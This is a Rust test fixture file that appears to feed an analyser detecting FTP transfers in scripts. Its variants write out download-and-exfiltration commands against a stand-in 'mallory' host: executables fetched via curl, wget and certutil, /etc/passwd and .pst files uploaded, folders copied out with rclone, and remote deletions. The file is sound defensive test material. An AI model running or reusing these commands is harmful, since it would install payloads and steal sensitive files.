//! Other clients than the line-based ones, and class libraries.

use super::{Variant, variant};

pub(super) const VARIANTS: &[Variant] = &[
    variant(
        "V55 curl downloads",
        &[("a.bat", "curl -s ftp://mallory:p%40w@203.0.113.155:2121/sub/x.exe -o %TEMP%\\x.exe\n")],
        &[
            "203.0.113.155:2121 as 'mallory'/'p@w'",
            "  gets x.exe in sub as %TEMP%\\x.exe, binary",
            "  unknown %TEMP%",
            "curl runs - (1)",
        ],
    ),
    variant(
        "V56 curl uploads",
        &[("a.bat", "curl -T C:\\d\\a.zip -u mallory:pw ftp://203.0.113.156/in/\n")],
        &["203.0.113.156:21 as 'mallory'/'pw'", "  puts C:\\d\\a.zip as a.zip in in, binary", "curl runs - (1)"],
    ),
    variant(
        "V57 wget",
        &[("a.sh", "#!/bin/sh\nwget --ftp-user=mallory --ftp-password=pw ftp://203.0.113.157/a/b.sh -O /tmp/b\n")],
        &["203.0.113.157:21 as 'mallory'/'pw'", "  gets b.sh in a as /tmp/b, binary", "wget runs - (1)"],
    ),
    variant(
        "V58 lftp -c",
        &[(
            "a.sh",
            "#!/bin/sh\nlftp -c \"open -u mallory,pw -p 2100 203.0.113.158; lcd /d; mirror -R . up; get k -o /tmp/k\"\n",
        )],
        &[
            "203.0.113.158:2100 as 'mallory'/'pw'",
            "  puts all of ** in /d as up/**, binary",
            "  gets k as /tmp/k in /d, binary",
            "lftp runs - (1)",
        ],
    ),
    variant(
        "V59 lftp -f",
        &[
            ("a.sh", "#!/bin/sh\nlftp -f go.lftp\n"),
            ("go.lftp", "open ftp://mallory:pw@203.0.113.159\nput a.tgz -o b.tgz; bye\n"),
        ],
        &["203.0.113.159:21 as 'mallory'/'pw'", "  puts a.tgz as b.tgz, binary", "lftp runs go.lftp (1)"],
    ),
    variant(
        "V60 ncftpget and ncftpput",
        &[(
            "a.sh",
            "#!/bin/sh\nncftpget -u mallory -p pw -P 2121 203.0.113.160 /tmp /x/a.bin\nncftpput -u mallory -p pw 203.0.113.160 /in /etc/passwd\n",
        )],
        &[
            "203.0.113.160:2121 as 'mallory'/'pw'",
            "  gets /x/a.bin as /tmp/a.bin, binary",
            "203.0.113.160:21 as 'mallory'/'pw'",
            "  puts /etc/passwd as passwd in /in, binary",
            "ncftp runs - (1)",
            "ncftp runs - (1)",
        ],
    ),
    variant(
        "V61 WinSCP, commands on its command line",
        &[(
            "a.bat",
            "winscp.com /ini=nul /command \"open ftp://mallory:p%%40w@203.0.113.161:2121/ -rawsettings ProxyPort=0\" \"put C:\\d\\*.pst /in/\" \"exit\"\n",
        )],
        &[
            "203.0.113.161:2121 as 'mallory'/'p@w'",
            "  puts all of C:\\d\\*.pst as /in/*.pst, binary",
            "winscp runs - (1)",
        ],
    ),
    variant(
        "V62 WinSCP, a script",
        &[
            ("a.bat", "winscp.com /script=w.txt\n"),
            (
                "w.txt",
                "# comment ok here\noption batch abort\noption confirm off\nopen ftp://mallory:pw@203.0.113.162/\nlcd C:\\out\nget -delete \"/a b/*.dat\" .\\\nsynchronize remote C:\\s /s\nexit\n",
            ),
        ],
        &[
            "203.0.113.162:21 as 'mallory'/'pw'",
            "  gets all of /a b/*.dat as .\\*.dat in C:\\out, binary",
            "  puts all of C:\\s\\** in C:\\out as /s/**, binary",
            "  deletes /a b/*.dat",
            "winscp runs w.txt (1)",
        ],
    ),
    variant(
        "V63 WebClient",
        &[(
            "a.ps1",
            "(New-Object Net.WebClient).DownloadFile('ftp://mallory:pw@203.0.113.163/x.exe','C:\\x.exe');$w=New-Object Net.WebClient;$w.Credentials=New-Object Net.NetworkCredential('eve','p2');$w.UploadFile('ftp://203.0.113.164/up/l.zip','STOR','C:\\l.zip')\n",
        )],
        &[
            "203.0.113.163:21 as 'mallory'/'pw'",
            "  gets x.exe as C:\\x.exe, binary",
            "203.0.113.164:21 as 'eve'/'p2'",
            "  puts C:\\l.zip as up/l.zip, binary",
        ],
    ),
    variant(
        "V64 FtpWebRequest",
        &[(
            "a.ps1",
            "$r=[Net.FtpWebRequest]::Create('ftp://203.0.113.164/d.7z');$r.Credentials=New-Object Net.NetworkCredential('mallory','pw');$r.Method='DELE';$r.GetResponse()\n",
        )],
        &["203.0.113.164:21 as 'mallory'/'pw'", "  deletes d.7z"],
    ),
    variant(
        "V65 Invoke-WebRequest uploads",
        &[("a.ps1", "iwr -Uri ftp://203.0.113.165/a.txt -Method Put -InFile C:\\a.txt -Credential $c\n")],
        &["203.0.113.165:21", "  puts C:\\a.txt as a.txt, binary", "  uncertain"],
    ),
    variant(
        "V66 certutil",
        &[(
            "a.bat",
            "certutil -urlcache -split -f ftp://mallory:pw@203.0.113.166/a.b64 a.b64 & certutil -decode a.b64 a.exe\n",
        )],
        &["203.0.113.166:21 as 'mallory'/'pw'", "  gets a.b64 as a.b64, binary", "certutil runs - (1)"],
    ),
    variant(
        "V67 bitsadmin knows no FTP",
        &[("a.bat", "bitsadmin /transfer j ftp://203.0.113.167/a.exe C:\\a.exe\n")],
        &[
            "203.0.113.167:21 inactive",
            "  gets a.exe as C:\\a.exe, binary",
            "  uncertain",
            "bitsadmin would not run - (1)",
        ],
    ),
    variant(
        "V68 Python on a command line",
        &[(
            "a.sh",
            "#!/bin/sh\npython -c \"from ftplib import FTP;f=FTP('203.0.113.168','mallory','pw');f.cwd('in');f.storbinary('STOR a.zip',open('/tmp/a.zip','rb'))\"\n",
        )],
        &["203.0.113.168:21 as 'mallory'/'pw'", "  puts /tmp/a.zip as a.zip in in, binary"],
    ),
    variant(
        "V69 rclone",
        &[("a.bat", "rclone copy C:\\d :ftp:in --ftp-host 203.0.113.169 --ftp-user mallory --ftp-pass OBSCURED\n")],
        &[
            "203.0.113.169:21 as 'mallory'/-",
            "  puts all of C:\\d\\** as in/**, binary",
            "  uncertain",
            "rclone runs - (1)",
        ],
    ),
    variant(
        "V70 the Windows shell",
        &[("a.bat", "explorer ftp://mallory:pw@203.0.113.170/x\n")],
        &["203.0.113.170:21 as 'mallory'/'pw'", "explorer runs - (1)"],
    ),
    variant(
        "V70 a shortcut",
        &[("x.url", "[InternetShortcut]\r\nURL=ftp://203.0.113.170/x.exe\r\n")],
        &["203.0.113.170:21"],
    ),
    variant(
        "V71 TFTP and SFTP are no FTP",
        &[("a.bat", "tftp -i 203.0.113.171 GET a.exe\nsftp -b b.txt kim@203.0.113.171\n")],
        &["sftp runs b.txt (0)"],
    ),
];
